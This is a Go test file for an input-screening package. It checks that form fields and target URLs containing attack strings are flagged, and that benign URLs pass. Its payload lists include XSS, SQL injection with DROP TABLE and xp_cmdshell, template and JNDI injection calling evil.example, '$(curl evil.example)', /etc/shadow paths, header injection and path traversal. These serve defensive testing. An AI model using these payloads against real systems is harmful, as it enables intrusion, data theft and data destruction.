package screen

import "testing"

// linePayloads are refused in every field of one line.
var linePayloads = map[rule][]string{
	ruleMarkup: {
		"<script", "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example>", "Ada</script >", `"><script>`, "%3Cscript%3Ealert(1)%3C/script%3E",
		"%253Cscript%253E", "< script >", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg onload = alert`1`>",
		"<body onload=alert(1)>", "<details open ontoggle=alert(1)>", `<a href="#" onclick="x()">Ada</a>`, "<iframe src=//evil.example>",
		`<iframe srcdoc="x">`, "<object data=x>", "<embed src=x>", `<form action="//evil.example">`, `<base href="//evil.example">`,
		`" onmouseover="alert(1)`, `' onfocus='alert(1)' autofocus='`, `"onerror=alert(1)`, "<!ENTITY x SYSTEM 'file:///etc/hosts'>",
	},
	ruleScriptURL: {"javascript:alert(1)", "JaVaScRiPt:alert`1`", "vbscript:msgbox(1)", "Ada (javascript:alert(1))", "javascript:window['x']=1"},
	ruleSQL: {
		"' OR 1=1 --", "' or 1=1#", "' OR '1'='1", "' OR 'a'='a' --", `" OR ""="`, `" or "x"="x`, "') OR ('1'='1", "')) or ((1=1", "' || '1'='1",
		"x' AND 1=2", "' OR 1>0 --", "' OR TRUE--", "' or 1--", "' or a=a#", "1 OR 1=1", "1 or+1=1", "'/**/OR/**/1=1--", "'%20OR%201=1--",
		"admin'--", "admin' --", "admin'#", "admin'/*", "admin') --", "x' order by 3--", "x' GROUP BY 1",
		"Robert'); DROP TABLE Students;--", "Robert'); DROP/**/TABLE Students", "; drop database shop", "1; DELETE FROM orders", "1;INSERT INTO users VALUES(1)",
		"x'; UPDATE users SET admin=1", "x'; TRUNCATE TABLE orders", "'; EXEC xp_cmdshell('dir')", "1; select * from users", "'; SHUTDOWN;--",
		"UNION SELECT", "' UNION SELECT NULL,NULL--", "1 UNION SELECT password FROM users", "-1 union select 1,2,3", "union all select 1", "' UNION/**/SELECT * FROM users",
		"union select version()", "x' union select name from users where 1", "UNION SELECT card FROM payments", "union select a,b from c",
		"1' AND SLEEP(5)--", "'; select pg_sleep(5)--", "1 AND (SELECT SLEEP(5))", "'; WAITFOR DELAY '0:0:5'", "extractvalue(1,2)", "information_schema.tables", "benchmark(1000000,1)",
	},
	ruleTemplate: {
		"{{7*7}}", "{{ 7 * '7' }}", "${7*7}", "#{7*7}", "${{7*7}}", "{{config.items()}}", "{{''.__class__}}", "{{constructor.constructor('x')()}}",
		"{{request.application}}", "{{_self.env}}", "${jndi:ldap://evil.example/a}", "${JNDI:dns://x}", "${${lower:j}ndi:x}", "${env:SECRET}", "${::-j}",
		"${T(java.lang.Runtime)}", "<%= 7*7 %>", "<?php phpinfo();", "<?= 1 ?>",
	},
	ruleCommand: {"$(id)", "$(curl evil.example)", "/etc/passwd", "x;/etc/shadow"},
	ruleHeader: {
		"Ada\r\nBcc: all@evil.example", "Ada\nCc:x@evil.example", "a@evil.example\nTo: b@evil.example", "Ada%0d%0aBcc: x", "Ada%0ASubject: pills",
		"Ada\r\n\r\nContent-Type: text/html", "Ada\rX-Mailer: x", "Ada%250d%250aBcc:x", "Ada\nSet-Cookie: a=b",
	},
	ruleNULEscape: {"Ada%00", "%00", "a%2500", "shell.php%00.jpg"},
}

func TestAttacks(t *testing.T) {
	t.Parallel()
	s := screener(t)
	for want, payloads := range linePayloads {
		for _, payload := range payloads {
			for field, f := range map[Field]Form{
				FieldEmail: {Email: payload}, FieldName: {Name: payload}, FieldCompany: {Company: payload}, FieldTargetName: {TargetName: payload},
			} {
				if got := s.Judge(f); got.Kind != Attack || got.Field != field || got.Reason != string(field)+": "+string(want) || !got.Refused() {
					t.Errorf("%s %q: %+v, want %s", field, payload, got, want)
				}
			}
			if got := s.Judge(Form{TargetURL: payload}); got.Kind != Attack || got.Field != FieldTargetURL {
				t.Errorf("%s %q: %+v", FieldTargetURL, payload, got)
			}
		}
	}
}

func TestAttacksInURLs(t *testing.T) {
	t.Parallel()
	s := screener(t)
	for target, want := range map[string]rule{
		"javascript:void":                               ruleScriptURL,
		" JavaScript :x":                                ruleScriptURL,
		"javascript://example.com/%0aalert(1)":          ruleScriptURL,
		"data:text/html,hello":                          ruleScriptURL,
		"https://example.com/?q=%3Cscript%3E":           ruleMarkup,
		"https://example.com/?next=javascript:alert(1)": ruleScriptURL,
		"https://example.com/?id=1%20or%201=1":          ruleSQL,
		"https://example.com/?id=1+and+1=1":             ruleSQL,
		"https://example.com/?id=1+union+all+select+1":  ruleSQL,
		"https://example.com/{{7*7}}":                   ruleTemplate,
		"https://example.com/%7B%7B7*7%7D%7D":           ruleTemplate,
		"https://${jndi:ldap://x}/":                     ruleTemplate,
		"https://example.com/../../etc/passwd":          ruleTraversal,
		"https://example.com/?f=/proc/self/environ":     ruleTraversal,
		"https://example.com/?f=../../x":                ruleTraversal,
		"https://example.com/..%2f":                     ruleTraversal,
		"https://example.com/%2e%2e%2fx":                ruleTraversal,
		"https://example.com/%252e%252e%252fx":          ruleTraversal,
		"https://example.com/%2e%2e/x":                  ruleTraversal,
		`https://example.com/..\x`:                      ruleTraversal,
		"https://example.com/%c0%ae/..%c0%afx":          ruleTraversal,
		"https://example.com/?f=/etc/passwd":            ruleCommand,
		"https://example.com/?f=c:/windows/win.ini":     ruleTraversal,
		"https://example.com/a%00b":                     ruleNULEscape,
		"https://example.com/?p=100%00":                 ruleNULEscape,
		"https://example.com/a%2500":                    ruleNULEscape,
		"https://example.com/%0d%0aSet-Cookie:x=1":      ruleHeader,
		"https://example.com/\r\nX-Injected: 1":         ruleHeader,
	} {
		if got := s.Judge(Form{TargetURL: target}); got.Kind != Attack || got.Reason != string(FieldTargetURL)+": "+string(want) {
			t.Errorf("%q: %+v, want %s", target, got, want)
		}
	}
	for _, target := range []string{
		"https://shop.example.com/", "shop.example.com", "https://shop.example.com/?q=union+select+committee", "https://example.com/a/../b",
		"https://example.com/search?q=rock+%26+roll&sort=price+or+name", "https://example.com/javascript/", "https://example.com/100%25-wool",
		"https://example.com/o'brien", "https://example.com/%E4%BD%A0%E5%A5%BD", "https://例え.jp/", "https://example.com/?redirect=https%3A%2F%2Fexample.org%2F",
		"https://example.com/...", "https://example.com/etc/", "https://example.com/?a[]=1&b={x}", "ftp://example.com", "https://127.0.0.1/", "x y", "https://user:pass@example.com/",
	} {
		if got := s.Judge(Form{TargetURL: target}); got.Kind != Legitimate {
			t.Errorf("%q: %+v", target, got)
		}
	}
}
